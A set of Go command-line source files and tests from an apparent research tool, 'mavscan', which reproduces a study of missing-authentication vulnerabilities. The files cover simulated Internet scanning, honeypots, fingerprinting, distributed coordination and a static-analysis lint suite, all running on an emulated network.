	def, err := study.RunDefenders(context.Background(), study.DefenderConfig{})
	if err != nil {
		fmt.Fprintln(stderr, "mav report:", err)
		return 1
	}
	fmt.Fprintf(w, "Scanner 1 detected %d/18 MAVs (paper: 5)\n", secscan.VulnerabilitiesDetected(def.Scanner1))
	fmt.Fprintf(w, "Scanner 2 detected %d/18 MAVs (paper: 3)\n", secscan.VulnerabilitiesDetected(def.Scanner2))
	fmt.Fprintln(w)

	// --- Section 6: summary ---
	report.Table9(w, study.Table9(scan, hs, def))

	if *jsonPath != "" {
		f, err := os.Create(*jsonPath)
		if err != nil {
			fmt.Fprintln(stderr, "mav report:", err)
			return 1
		}
		defer f.Close()
		if err := report.BuildResults(scan, res, hs, def).WriteJSON(f); err != nil {
			fmt.Fprintln(stderr, "mav report:", err)
			return 1
		}
		fmt.Fprintf(w, "\nmachine-readable results written to %s\n", *jsonPath)
	}
	return 0
}
