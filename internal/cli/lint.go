package cli

import (
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"sort"
	"strings"

	"mavscan/internal/lint"
)

// runLint is "mav lint": the repo-specific static-analysis suite.
//
// The suite enforces the invariants the paper's methodology depends on —
// GET-only detection probes, simulated-clock determinism, network
// hermeticity, bounded goroutines, no dropped scan errors, bounded reads
// of peer-controlled data, deterministic map-order emission, and
// cancellation-aware probe loops. See internal/lint for the analyzers and
// DESIGN.md for the mapping to paper constraints.
//
// Usage:
//
//	mav lint [-rules list] [-pkg list] [-format text|json] [-baseline file [-write-baseline]] [./... | <module-dir>]
//
// With "./..." (or no argument) the module containing the working
// directory is analyzed. A directory argument holding a go.mod is
// analyzed as its own module root, which is how the checked-in violation
// fixtures under internal/lint/testdata are exercised.
//
// -format json emits machine-readable findings (file, line, rule,
// message) for CI and editors; the human "file:line: [rule] msg" text
// remains the default.
//
// -baseline FILE suppresses findings already recorded in FILE, so a run
// fails only on *new* findings. Entries are keyed (file, rule, message)
// without line numbers, surviving unrelated edits to the same file.
// -write-baseline rewrites FILE from the current findings instead.
//
// Exit status: 0 when clean, 1 on findings, 2 on usage or load errors.
func runLint(args []string, stdout, stderr io.Writer) int {
	fs := newFlagSet("lint", stderr)
	rules := fs.String("rules", "", "comma-separated subset of rules to run (default: all)")
	pkgFilter := fs.String("pkg", "", "comma-separated import-path suffixes restricting which packages are analyzed (default: all)")
	list := fs.Bool("list", false, "print the available rules and exit")
	format := fs.String("format", "text", `output format: "text" or "json"`)
	baseline := fs.String("baseline", "", "suppress findings recorded in this file; fail only on new ones")
	writeBaseline := fs.Bool("write-baseline", false, "rewrite the -baseline file from the current findings instead of diffing")
	if err := fs.Parse(args); err != nil {
		return 2
	}

	if *list {
		for _, a := range lint.Analyzers() {
			fmt.Fprintf(stdout, "%-12s %s\n", a.Name, a.Doc)
		}
		return 0
	}
	if *format != "text" && *format != "json" {
		fmt.Fprintf(stderr, "mavlint: unknown -format %q\n", *format)
		return 2
	}
	if *writeBaseline && *baseline == "" {
		fmt.Fprintln(stderr, "mavlint: -write-baseline requires -baseline")
		return 2
	}

	analyzers, err := selectAnalyzers(*rules)
	if err != nil {
		fmt.Fprintln(stderr, "mavlint:", err)
		return 2
	}

	root, err := resolveRoot(fs.Args())
	if err != nil {
		fmt.Fprintln(stderr, "mavlint:", err)
		return 2
	}

	pkgs, err := lint.LoadModule(root)
	if err != nil {
		fmt.Fprintln(stderr, "mavlint:", err)
		return 2
	}

	if *pkgFilter != "" {
		pkgs, err = filterPackages(pkgs, *pkgFilter)
		if err != nil {
			fmt.Fprintln(stderr, "mavlint:", err)
			return 2
		}
	}

	findings := lint.RunSuite(pkgs, analyzers)

	if *writeBaseline {
		if err := os.WriteFile(*baseline, []byte(baselineContent(root, findings)), 0o644); err != nil {
			fmt.Fprintln(stderr, "mavlint:", err)
			return 2
		}
		fmt.Fprintf(stderr, "mavlint: wrote %d baseline entr%s to %s\n",
			len(findings), plural(len(findings), "y", "ies"), *baseline)
		return 0
	}

	suppressed := 0
	if *baseline != "" {
		known, err := readBaseline(*baseline)
		if err != nil {
			fmt.Fprintln(stderr, "mavlint:", err)
			return 2
		}
		findings, suppressed = filterBaselined(root, findings, known)
	}

	switch *format {
	case "json":
		if err := writeLintJSON(stdout, root, findings); err != nil {
			fmt.Fprintln(stderr, "mavlint:", err)
			return 2
		}
	default:
		for _, f := range findings {
			fmt.Fprintln(stdout, f)
		}
	}
	if len(findings) > 0 {
		msg := fmt.Sprintf("mavlint: %d violation(s)", len(findings))
		if suppressed > 0 {
			msg += fmt.Sprintf(" (%d baselined finding(s) suppressed)", suppressed)
		}
		fmt.Fprintln(stderr, msg)
		return 1
	}
	return 0
}

// jsonFinding is the machine-readable form of one finding.
type jsonFinding struct {
	File    string `json:"file"`
	Line    int    `json:"line"`
	Rule    string `json:"rule"`
	Message string `json:"message"`
}

// writeLintJSON emits findings as a JSON array (always an array, so
// consumers need no null handling on a clean run). File paths are
// relative to the module root when possible, making the output stable
// across checkouts.
func writeLintJSON(w io.Writer, root string, findings []lint.Finding) error {
	out := make([]jsonFinding, 0, len(findings))
	for _, f := range findings {
		out = append(out, jsonFinding{
			File:    relToRoot(root, f.Pos.Filename),
			Line:    f.Pos.Line,
			Rule:    f.Rule,
			Message: f.Msg,
		})
	}
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	return enc.Encode(out)
}

// baselineKey is the suppression identity of a finding: file, rule and
// message, but no line number — a baselined finding should survive
// unrelated edits shifting it up or down the file.
func baselineKey(root string, f lint.Finding) string {
	return relToRoot(root, f.Pos.Filename) + " [" + f.Rule + "] " + f.Msg
}

// baselineContent renders findings in baseline format: one sorted,
// deduplicated key per line, with a comment header.
func baselineContent(root string, findings []lint.Finding) string {
	seen := map[string]bool{}
	var keys []string
	for _, f := range findings {
		k := baselineKey(root, f)
		if !seen[k] {
			seen[k] = true
			keys = append(keys, k)
		}
	}
	sort.Strings(keys)
	var b strings.Builder
	b.WriteString("# mavlint baseline: findings listed here are suppressed by -baseline.\n")
	b.WriteString("# Regenerate with: go run ./cmd/mav lint -baseline lint.baseline -write-baseline ./...\n")
	for _, k := range keys {
		b.WriteString(k)
		b.WriteByte('\n')
	}
	return b.String()
}

// readBaseline parses a baseline file into its suppression set. Blank
// lines and #-comments are ignored. A missing file is an error: silently
// suppressing nothing would make a typoed path pass CI forever.
func readBaseline(path string) (map[string]bool, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	out := map[string]bool{}
	for _, line := range strings.Split(string(data), "\n") {
		line = strings.TrimSpace(line)
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		out[line] = true
	}
	return out, nil
}

// filterBaselined drops findings whose key appears in the baseline and
// reports how many were suppressed.
func filterBaselined(root string, findings []lint.Finding, known map[string]bool) ([]lint.Finding, int) {
	var out []lint.Finding
	suppressed := 0
	for _, f := range findings {
		if known[baselineKey(root, f)] {
			suppressed++
			continue
		}
		out = append(out, f)
	}
	return out, suppressed
}

// relToRoot renders path relative to the module root, falling back to the
// original on failure; output always uses forward slashes.
func relToRoot(root, path string) string {
	abs, err := filepath.Abs(root)
	if err == nil {
		if rel, err := filepath.Rel(abs, path); err == nil && !strings.HasPrefix(rel, "..") {
			return filepath.ToSlash(rel)
		}
	}
	if rel, err := filepath.Rel(root, path); err == nil && !strings.HasPrefix(rel, "..") {
		return filepath.ToSlash(rel)
	}
	return filepath.ToSlash(path)
}

func plural(n int, one, many string) string {
	if n == 1 {
		return one
	}
	return many
}

// selectAnalyzers resolves the -rules flag to a suite subset.
func selectAnalyzers(rules string) ([]*lint.Analyzer, error) {
	if rules == "" {
		return lint.Analyzers(), nil
	}
	var out []*lint.Analyzer
	for _, name := range strings.Split(rules, ",") {
		name = strings.TrimSpace(name)
		a := lint.ByName(name)
		if a == nil {
			return nil, fmt.Errorf("unknown rule %q", name)
		}
		out = append(out, a)
	}
	return out, nil
}

// filterPackages keeps the packages whose import path equals, or ends
// with "/" plus, one of the comma-separated patterns. A pattern matching
// nothing is an error — a CI step silently analyzing zero packages would
// report success forever.
func filterPackages(pkgs []*lint.Package, filter string) ([]*lint.Package, error) {
	var out []*lint.Package
	for _, pat := range strings.Split(filter, ",") {
		pat = strings.TrimSpace(pat)
		if pat == "" {
			continue
		}
		matched := false
		for _, p := range pkgs {
			if p.Path == pat || strings.HasSuffix(p.Path, "/"+pat) {
				out = append(out, p)
				matched = true
			}
		}
		if !matched {
			return nil, fmt.Errorf("-pkg pattern %q matches no package", pat)
		}
	}
	return out, nil
}

// resolveRoot maps the package-pattern argument to a module root: an
// explicit directory containing go.mod wins; otherwise ("./..." or
// nothing) the module enclosing the working directory is used.
func resolveRoot(args []string) (string, error) {
	if len(args) > 1 {
		return "", fmt.Errorf("at most one package pattern expected, got %d", len(args))
	}
	if len(args) == 1 && args[0] != "./..." {
		dir := filepath.Clean(args[0])
		if _, err := os.Stat(filepath.Join(dir, "go.mod")); err == nil {
			return dir, nil
		}
		return "", fmt.Errorf("argument %q is neither ./... nor a module directory", args[0])
	}
	wd, err := os.Getwd()
	if err != nil {
		return "", err
	}
	return lint.FindModuleRoot(wd)
}
