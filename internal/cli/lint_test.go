package cli

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// fixtureModule is the checked-in violation corpus, addressed relative to
// this package's directory.
const fixtureModule = "../../internal/lint/testdata/badmodule"

// runMavlint invokes the lint subcommand capturing both streams.
func runMavlint(t *testing.T, args ...string) (code int, stdout, stderr string) {
	t.Helper()
	var out, errBuf bytes.Buffer
	code = runLint(args, &out, &errBuf)
	return code, out.String(), errBuf.String()
}

// TestFormatRoundTrip pins that -format json carries exactly the findings
// of the default text format: same count, and every (file, line, rule)
// triple of the text output appears in the JSON document.
func TestFormatRoundTrip(t *testing.T) {
	codeText, textOut, _ := runMavlint(t, fixtureModule)
	if codeText != 1 {
		t.Fatalf("text run exit = %d, want 1", codeText)
	}
	codeJSON, jsonOut, _ := runMavlint(t, "-format", "json", fixtureModule)
	if codeJSON != 1 {
		t.Fatalf("json run exit = %d, want 1", codeJSON)
	}

	var parsed []jsonFinding
	if err := json.Unmarshal([]byte(jsonOut), &parsed); err != nil {
		t.Fatalf("json output does not parse: %v\n%s", err, jsonOut)
	}

	textLines := strings.Split(strings.TrimSpace(textOut), "\n")
	if len(parsed) != len(textLines) {
		t.Fatalf("json has %d findings, text has %d", len(parsed), len(textLines))
	}

	// Index the JSON findings by their text rendering prefix.
	got := map[string]bool{}
	for _, f := range parsed {
		if f.File == "" || f.Line == 0 || f.Rule == "" || f.Message == "" {
			t.Errorf("incomplete json finding: %+v", f)
		}
		got[fmt.Sprintf("%s:%d: [%s]", f.File, f.Line, f.Rule)] = true
	}
	for _, line := range textLines {
		// Text positions are relative to the invocation; reduce both sides
		// to the module-internal path before comparing.
		idx := strings.LastIndex(line, "internal/")
		end := strings.Index(line, "]")
		if idx < 0 || end < 0 {
			t.Fatalf("unparseable text line %q", line)
		}
		if !got[line[idx:end+1]] {
			t.Errorf("text finding %q missing from json output", line[idx:end+1])
		}
	}
}

// TestFormatJSONCleanRun pins that a clean module yields an empty JSON
// array, not null — consumers should never need a null guard.
func TestFormatJSONCleanRun(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "go.mod"), "module clean\n\ngo 1.22\n")
	writeFile(t, filepath.Join(dir, "clean.go"), "package clean\n")
	code, out, stderr := runMavlint(t, "-format", "json", dir)
	if code != 0 {
		t.Fatalf("exit = %d, want 0 (stderr: %s)", code, stderr)
	}
	if strings.TrimSpace(out) != "[]" {
		t.Errorf("clean json output = %q, want []", out)
	}
}

// TestBaselineWorkflow exercises the suppression round trip: write a
// baseline from the fixture module's findings, then re-run against it and
// require a clean exit; then shrink the baseline and require the removed
// entry to resurface.
func TestBaselineWorkflow(t *testing.T) {
	base := filepath.Join(t.TempDir(), "lint.baseline")

	code, _, stderr := runMavlint(t, "-baseline", base, "-write-baseline", fixtureModule)
	if code != 0 {
		t.Fatalf("write-baseline exit = %d (stderr: %s)", code, stderr)
	}

	code, out, _ := runMavlint(t, "-baseline", base, fixtureModule)
	if code != 0 || strings.TrimSpace(out) != "" {
		t.Fatalf("baselined run exit = %d out = %q; want clean", code, out)
	}

	// Drop one entry: exactly that finding must come back.
	data, err := os.ReadFile(base)
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(string(data)), "\n")
	var kept []string
	removed := ""
	for _, l := range lines {
		if removed == "" && strings.Contains(l, "[boundedread]") {
			removed = l
			continue
		}
		kept = append(kept, l)
	}
	if removed == "" {
		t.Fatal("baseline holds no boundedread entry to remove")
	}
	writeFile(t, base, strings.Join(kept, "\n")+"\n")

	code, out, _ = runMavlint(t, "-baseline", base, fixtureModule)
	if code != 1 {
		t.Fatalf("exit = %d after removing a baseline entry, want 1", code)
	}
	if !strings.Contains(out, "[boundedread]") {
		t.Errorf("removed finding did not resurface; output:\n%s", out)
	}
}

// TestBaselineMissingFileFails pins that a typoed baseline path is a hard
// error, not an empty suppression set.
func TestBaselineMissingFileFails(t *testing.T) {
	code, _, _ := runMavlint(t, "-baseline", filepath.Join(t.TempDir(), "nope"), fixtureModule)
	if code != 2 {
		t.Errorf("exit = %d with missing baseline file, want 2", code)
	}
}

// TestRepoBaselineIsEmpty keeps the checked-in baseline honest: the repo
// is clean under the full suite, so every entry would be stale.
func TestRepoBaselineIsEmpty(t *testing.T) {
	known, err := readBaseline("../../lint.baseline")
	if err != nil {
		t.Fatalf("reading checked-in baseline: %v", err)
	}
	for k := range known {
		t.Errorf("stale baseline entry: %s", k)
	}
}

func TestUnknownFormatRejected(t *testing.T) {
	code, _, stderr := runMavlint(t, "-format", "xml", fixtureModule)
	if code != 2 || !strings.Contains(stderr, "unknown -format") {
		t.Errorf("exit = %d stderr = %q, want usage error", code, stderr)
	}
}

func writeFile(t *testing.T, path, content string) {
	t.Helper()
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}
