package cli

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/netip"
	"time"

	"mavscan/internal/apps"
	"mavscan/internal/fingerprint"
	"mavscan/internal/httpsim"
	"mavscan/internal/mav"
	"mavscan/internal/prefilter"
	"mavscan/internal/simnet"
	"mavscan/internal/tsunami"
	"mavscan/internal/tsunami/plugins"
)

// runFP is "mav fp": the detection and fingerprinting stack against a
// single emulated deployment — a debugging loupe for the pipeline.
func runFP(args []string, stdout, stderr io.Writer) int {
	fs := newFlagSet("fp", stderr)
	var (
		appName    = fs.String("app", "Docker", "application to deploy (catalog name)")
		version    = fs.String("version", "", "release to deploy (default: latest)")
		vulnerable = fs.Bool("vulnerable", true, "deploy in a vulnerable configuration")
	)
	if err := fs.Parse(args); err != nil {
		return 2
	}

	info, err := mav.Lookup(mav.App(*appName))
	if err != nil {
		fmt.Fprintf(stderr, "mav fp: %v (valid names: see Table 1)\n", err)
		return 2
	}
	cfg := apps.Config{App: info.App, Version: *version, Options: map[string]bool{}}
	switch info.App {
	case mav.WordPress, mav.Grav, mav.Joomla, mav.Drupal:
		cfg.Installed = !*vulnerable
	case mav.Consul:
		cfg.Options["enableScriptChecks"] = *vulnerable
	case mav.Ajenti:
		cfg.Options["autologin"] = *vulnerable
	case mav.PhpMyAdmin:
		cfg.Options["allowNoPassword"] = *vulnerable
	case mav.Adminer:
		cfg.Options["emptyDBPassword"] = *vulnerable
	default:
		cfg.AuthRequired = !*vulnerable
	}
	inst, err := apps.New(cfg)
	if err != nil {
		fmt.Fprintln(stderr, "mav fp:", err)
		return 1
	}

	n := simnet.New()
	ip := netip.MustParseAddr("10.0.0.1")
	host := simnet.NewHost(ip)
	port := 80
	if len(info.Ports) > 0 {
		port = info.Ports[0]
	}
	host.Bind(port, httpsim.ConnHandler(inst.Handler()))
	if err := n.AddHost(host); err != nil {
		fmt.Fprintln(stderr, "mav fp:", err)
		return 1
	}

	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()

	fmt.Fprintf(stdout, "deployed %s %s (vulnerable=%v) at %s\n", info.App, inst.Version(), inst.Vulnerable(), net.JoinHostPort(ip.String(), fmt.Sprint(port)))

	pre := prefilter.New(n)
	res := pre.Probe(ctx, ip, port)
	fmt.Fprintf(stdout, "stage II: http=%v https=%v matched apps=%v\n", res.HTTP, res.HTTPS, res.Apps)
	if !res.Relevant() {
		return 0
	}

	client := httpsim.NewClient(n, httpsim.ClientOptions{})
	engine := tsunami.NewEngine(plugins.NewRegistry(), client)
	target := tsunami.Target{IP: ip, Port: port, Scheme: res.Scheme, App: info.App}
	findings := engine.Scan(ctx, target)
	if len(findings) == 0 {
		fmt.Fprintln(stdout, "stage III: no MAV detected")
	}
	for _, f := range findings {
		fmt.Fprintf(stdout, "stage III: MAV — %s\n", f)
	}

	fp := fingerprint.New(tsunami.NewEnv(client))
	fpRes := fp.Fingerprint(ctx, target)
	fmt.Fprintf(stdout, "fingerprint: version=%q method=%q\n", fpRes.Version, fpRes.Method)
	return 0
}
