// Package cli implements the mav appliance: every study, tool and
// fabric role of the repo as subcommands of one binary. Each command is
// a pure function of (args, stdout, stderr) returning an exit code,
// which is what lets the whole surface be tested without spawning
// processes; cmd/mav dispatches to Main, and the legacy cmd/mav*
// entrypoints forward here one command each.
package cli

import (
	"fmt"
	"io"
	"os"
)

// command is one mav subcommand.
type command struct {
	name    string
	summary string
	run     func(args []string, stdout, stderr io.Writer) int
}

// commands lists the appliance surface in help order.
func commands() []command {
	return []command{
		{"scan", "run the scanning study (Tables 1-4, Figure 1)", runScan},
		{"observe", "run the longevity study (Figure 2)", runObserve},
		{"pot", "run the honeypot study (Tables 5-8, Figures 3-4)", runPot},
		{"fp", "probe one emulated deployment through the detection stack", runFP},
		{"report", "regenerate every table and figure in one run", runReport},
		{"disclose", "build the responsible-disclosure notification plan", runDisclose},
		{"lint", "run the repo-specific static-analysis suite", runLint},
		{"coordinate", "serve a distributed scan's segment plan as leases", runCoordinate},
		{"work", "join a coordinator and scan leased segments", runWork},
	}
}

// Main dispatches one appliance invocation and returns its exit code.
func Main(args []string) int {
	if len(args) == 0 {
		usage(os.Stderr)
		return 2
	}
	switch args[0] {
	case "help", "-h", "-help", "--help":
		usage(os.Stdout)
		return 0
	}
	for _, cmd := range commands() {
		if cmd.name == args[0] {
			return cmd.run(args[1:], os.Stdout, os.Stderr)
		}
	}
	fmt.Fprintf(os.Stderr, "mav: unknown command %q\n\n", args[0])
	usage(os.Stderr)
	return 2
}

// Forward runs one named subcommand on the standard streams — the whole
// body of each legacy cmd/mav* shim.
func Forward(name string, args []string) int {
	for _, cmd := range commands() {
		if cmd.name == name {
			return cmd.run(args, os.Stdout, os.Stderr)
		}
	}
	fmt.Fprintf(os.Stderr, "mav: unknown forwarded command %q\n", name)
	return 2
}

func usage(w io.Writer) {
	fmt.Fprintln(w, "usage: mav <command> [flags]")
	fmt.Fprintln(w)
	fmt.Fprintln(w, "The mavscan appliance. Commands:")
	fmt.Fprintln(w)
	for _, cmd := range commands() {
		fmt.Fprintf(w, "  %-12s %s\n", cmd.name, cmd.summary)
	}
	fmt.Fprintln(w)
	fmt.Fprintln(w, "Run 'mav <command> -h' for the command's flags.")
}
