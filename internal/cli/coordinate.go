package cli

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"os/signal"
	"syscall"
	"time"

	"mavscan/internal/fabric"
	"mavscan/internal/obs"
	"mavscan/internal/orchestrator"
	"mavscan/internal/population"
	"mavscan/internal/scanner"
)

// runCoordinate is "mav coordinate": it plans a distributed scan and
// serves the segment plan as leases over the wire protocol, co-hosted
// with the operations plane on one loopback listener. Workers join with
// "mav work -coordinator <addr>"; the command exits once every segment
// is completed and journaled.
func runCoordinate(args []string, stdout, stderr io.Writer) int {
	fs := newFlagSet("coordinate", stderr)
	var (
		seed      = fs.Int64("seed", 1, "world generation seed (shipped to workers)")
		hostScale = fs.Int("host-scale", 2000, "divisor for the secure host counts")
		vulnScale = fs.Int("vuln-scale", 4, "divisor for the MAV counts")
		bgScale   = fs.Int("background-scale", 100000, "divisor for background noise (negative disables)")
		workers   = fs.Int("workers", 64, "stage-I probe workers per fabric worker")
		shards    = fs.Int("shards", 1, "flat-index shard count of the plan")
		heartbeat = fs.Duration("heartbeat-every", 500*time.Millisecond, "beat cadence workers must keep")
		missed    = fs.Int("missed-beats", 3, "missed-beat budget before a worker's leases expire")
		jsonOut   = fs.String("json-report", "", "write the canonical machine-readable merged report to this file")
	)
	ops := bindOps(fs, ":8070")
	flt := bindFaults(fs, "seed=7,rate=0.02[,crash=0.3]")
	ckpt := bindCheckpoint(fs)
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if *ops.serve == "" {
		fmt.Fprintln(stderr, "mav coordinate: -serve is required (the wire protocol needs a loopback listener)")
		return 2
	}

	faultCfg, policy, err := flt.parse()
	if err != nil {
		fmt.Fprintln(stderr, "mav coordinate:", err)
		return 2
	}
	ckptCfg, store, err := ckpt.open()
	if err != nil {
		fmt.Fprintln(stderr, "mav coordinate:", err)
		return 1
	}
	if store != nil {
		defer store.Close()
	}

	reg, stopProgress := ops.registry(stderr, obs.ScanProgressFields)
	defer stopProgress()
	tracker := orchestrator.NewProgressTracker()

	coord, err := fabric.NewCoordinator(fabric.CoordinatorConfig{
		Population: population.Config{
			Seed:            *seed,
			HostScale:       *hostScale,
			VulnScale:       *vulnScale,
			BackgroundScale: *bgScale,
			WildcardScale:   *bgScale,
		},
		Scan:           scanner.Options{PortWorkers: *workers, Seed: uint64(*seed)},
		Shards:         *shards,
		Checkpoint:     ckptCfg,
		Faults:         faultCfg,
		Resilience:     policy,
		HeartbeatEvery: *heartbeat,
		MissedBeats:    *missed,
		Telemetry:      reg,
		Progress:       tracker,
	})
	if err != nil {
		fmt.Fprintln(stderr, "mav coordinate:", err)
		return 1
	}

	readyChecks := []obs.Check{obs.PingCheck("workers", tracker)}
	if store != nil {
		readyChecks = append(readyChecks, obs.PingCheck("checkpoint", store))
	}
	srv, err := ops.servePlane(stderr, "mav coordinate", obs.Config{
		Telemetry: reg,
		Progress:  func() any { return tracker.Snapshot() },
		Live:      []obs.Check{obs.HeapCheck(8 << 30)},
		Ready:     readyChecks,
		Routes:    map[string]http.Handler{"/fabric/v1/": coord.Handler()},
	})
	if err != nil {
		fmt.Fprintln(stderr, "mav coordinate:", err)
		return 1
	}
	defer srv.Close()
	fmt.Fprintf(stdout, "coordinating %d-shard plan; workers join with: mav work -coordinator %s\n",
		*shards, srv.Addr())

	ctx, stop := signal.NotifyContext(context.Background(), syscall.SIGINT, syscall.SIGTERM)
	defer stop()
	if err := coord.Wait(ctx); err != nil {
		fmt.Fprintln(stderr, "mav coordinate: interrupted:", err)
		return 1
	}
	rep, err := coord.Report()
	if err != nil {
		fmt.Fprintln(stderr, "mav coordinate:", err)
		return 1
	}
	fmt.Fprintf(stdout, "plan complete: %d probes, %d open ports, %d reassigned lease(s)\n",
		rep.Stats.Probed, rep.Stats.Open, len(coord.Reassignments()))
	if *jsonOut != "" {
		if err := writeReportJSON(*jsonOut, rep); err != nil {
			fmt.Fprintln(stderr, "mav coordinate:", err)
			return 1
		}
		fmt.Fprintf(stdout, "canonical report written to %s\n", *jsonOut)
	}

	ops.lingerWait(stderr, "mav coordinate", srv)
	return 0
}
