package cli

import (
	"context"
	"fmt"
	"io"

	"mavscan/internal/analysis"
	"mavscan/internal/obs"
	"mavscan/internal/report"
	"mavscan/internal/study"
)

// runPot is "mav pot": the honeypot study (Section 4) — 18 vulnerable
// applications exposed to the modeled attacker population for four
// simulated weeks, then Tables 5-8 and Figures 3-4.
func runPot(args []string, stdout, stderr io.Writer) int {
	fs := newFlagSet("pot", stderr)
	seed := fs.Int64("seed", 7, "attack plan seed")
	ops := bindOps(fs, ":8072")
	if err := fs.Parse(args); err != nil {
		return 2
	}

	reg, stopProgress := ops.registry(stderr, obs.HoneypotProgressFields)

	ready := &obs.Flag{}
	srv, err := ops.servePlane(stderr, "mav pot", obs.Config{
		Telemetry: reg,
		Live:      []obs.Check{obs.HeapCheck(8 << 30)},
		Ready:     []obs.Check{ready.Check("farm")},
	})
	if err != nil {
		fmt.Fprintln(stderr, "mav pot:", err)
		return 1
	}
	if srv != nil {
		defer srv.Close()
	}

	fmt.Fprintln(stdout, "deploying 18 honeypots and replaying four weeks of attacks...")
	hs, err := study.RunHoneypots(context.Background(), study.HoneypotConfig{
		Seed:      *seed,
		Telemetry: reg,
		Obs:       study.ObsConfig{Ready: ready},
	})
	stopProgress()
	if err != nil {
		fmt.Fprintln(stderr, "mav pot:", err)
		return 1
	}
	fmt.Fprintf(stdout, "monitoring recorded %d events (%d executed attacks, %d failed attempts)\n\n",
		hs.Store.Len(), len(hs.Executor.Executed), len(hs.Executor.Failed))

	w := stdout
	report.Table5(w, hs.Attacks)
	fmt.Fprintln(w)
	report.Table6(w, analysis.Table6(hs.Attacks, hs.Start))
	fmt.Fprintln(w)
	report.Table7(w, analysis.Table7(hs.Attacks, hs.Geo), 10)
	fmt.Fprintln(w)
	report.Table8(w, analysis.Table8(hs.Attacks, hs.Geo), 5)
	fmt.Fprintln(w)
	report.Figure3(w, analysis.Figure3(hs.Attacks, hs.Start))
	fmt.Fprintln(w)
	report.Figure4(w, hs.Clusters)
	fmt.Fprintf(w, "\ntop-5 attackers carry %.0f%% of attacks (paper: 67%%), top-10 %.0f%% (paper: 84%%)\n",
		100*analysis.TopShare(hs.Clusters, 5), 100*analysis.TopShare(hs.Clusters, 10))

	fmt.Fprintln(w, "\nattack purposes (RQ4):")
	for _, row := range analysis.PurposeBreakdown(hs.Attacks) {
		fmt.Fprintf(w, "  %-20s %5d (%.0f%%)\n", row.Purpose, row.Attacks, 100*row.Share)
	}
	fmt.Fprintf(w, "cryptojacking (incl. Kinsing): %.0f%% of attacks (paper: \"mostly cryptojacking\")\n",
		100*analysis.CryptojackingShare(hs.Attacks))

	if reg != nil {
		fmt.Fprintln(w)
		fmt.Fprintln(w, "=== Telemetry snapshot ===")
		if err := reg.WriteProm(w); err != nil {
			fmt.Fprintln(stderr, "mav pot:", err)
			return 1
		}
	}

	ops.lingerWait(stderr, "mav pot", srv)
	return 0
}
