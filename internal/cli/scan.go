package cli

import (
	"context"
	"flag"
	"fmt"
	"io"

	"mavscan/internal/analysis"
	"mavscan/internal/mav"
	"mavscan/internal/obs"
	"mavscan/internal/orchestrator"
	"mavscan/internal/population"
	"mavscan/internal/report"
	"mavscan/internal/scanner"
	"mavscan/internal/study"
)

// runScan is "mav scan": the Internet-wide scanning study (Section 3) on
// a generated simulated internet, printing Tables 1-4 and Figure 1.
func runScan(args []string, stdout, stderr io.Writer) int {
	fs := newFlagSet("scan", stderr)
	var (
		seed      = fs.Int64("seed", 1, "world generation seed")
		hostScale = fs.Int("host-scale", 2000, "divisor for the secure host counts of Table 3")
		vulnScale = fs.Int("vuln-scale", 4, "divisor for the MAV counts of Table 3")
		bgScale   = fs.Int("background-scale", 100000, "divisor for Table 2 background noise (negative disables)")
		popScale  = fs.Int("pop-scale", 1, "multiply every population target and widen the address plan this many times (implies -lazy for scales > 1 unless -lazy=false is forced)")
		lazy      = fs.Bool("lazy", false, "derive hosts on first probe instead of materializing the world up front")
		cacheSize = fs.Int("cache-hosts", 0, "resident host bound for -lazy worlds (0 = default 131072)")
		hostile   = fs.Float64("hostile", 0, "fraction of the population seeded as weaponized responders (tarpits, bombs, mazes), in [0, 1)")
		httpTO    = fs.Duration("http-timeout", 0, "stage-II/III per-request timeout and connection wall budget (0 = 10s default); set low for -hostile scans")
		workers   = fs.Int("workers", 64, "stage-I probe workers")
		shards    = fs.Int("shards", 1, "run the scan sharded across this many pipelines")
		fabricN   = fs.Int("fabric-workers", 0, "run the scan through the distributed fabric with this many in-process workers (0 = off)")
		jsonOut   = fs.String("json-report", "", "also write the canonical machine-readable report to this file")
	)
	ops := bindOps(fs, ":8070")
	flt := bindFaults(fs, "seed=7,rate=0.02[,latency=50ms,trunc=64,kinds=syn+reset+5xx,crash=0.3]")
	ckpt := bindCheckpoint(fs)
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if *hostile < 0 || *hostile >= 1 {
		fmt.Fprintln(stderr, "mav scan: -hostile must be in [0, 1)")
		return 2
	}
	if *popScale > 1 && !*lazy {
		// An eager 100× world means tens of millions of up-front hosts;
		// unless the user explicitly forced eager mode, scale lazily.
		forced := false
		fs.Visit(func(f *flag.Flag) {
			if f.Name == "lazy" {
				forced = true
			}
		})
		if !forced {
			*lazy = true
		}
	}

	faultCfg, policy, err := flt.parse()
	if err != nil {
		fmt.Fprintln(stderr, "mav scan:", err)
		return 2
	}
	ckptCfg, store, err := ckpt.open()
	if err != nil {
		fmt.Fprintln(stderr, "mav scan:", err)
		return 1
	}
	if store != nil {
		defer store.Close()
	}

	reg, stopProgress := ops.registry(stderr, obs.ScanProgressFields)

	// The operations plane: progress tracker + readiness latch served over
	// a loopback-only listener. The tracker routes the scan through the
	// orchestrator even unsharded, so /progress always has a watermark.
	var tracker *orchestrator.ProgressTracker
	var ready *obs.Flag
	var srv *obs.Server
	if *ops.serve != "" {
		tracker = orchestrator.NewProgressTracker()
		ready = &obs.Flag{}
		readyChecks := []obs.Check{ready.Check("world"), obs.PingCheck("workers", tracker)}
		if store != nil {
			readyChecks = append(readyChecks, obs.PingCheck("checkpoint", store))
		}
		srv, err = ops.servePlane(stderr, "mav scan", obs.Config{
			Telemetry: reg,
			Progress:  func() any { return tracker.Snapshot() },
			Live:      []obs.Check{obs.HeapCheck(8 << 30)},
			Ready:     readyChecks,
		})
		if err != nil {
			fmt.Fprintln(stderr, "mav scan:", err)
			return 1
		}
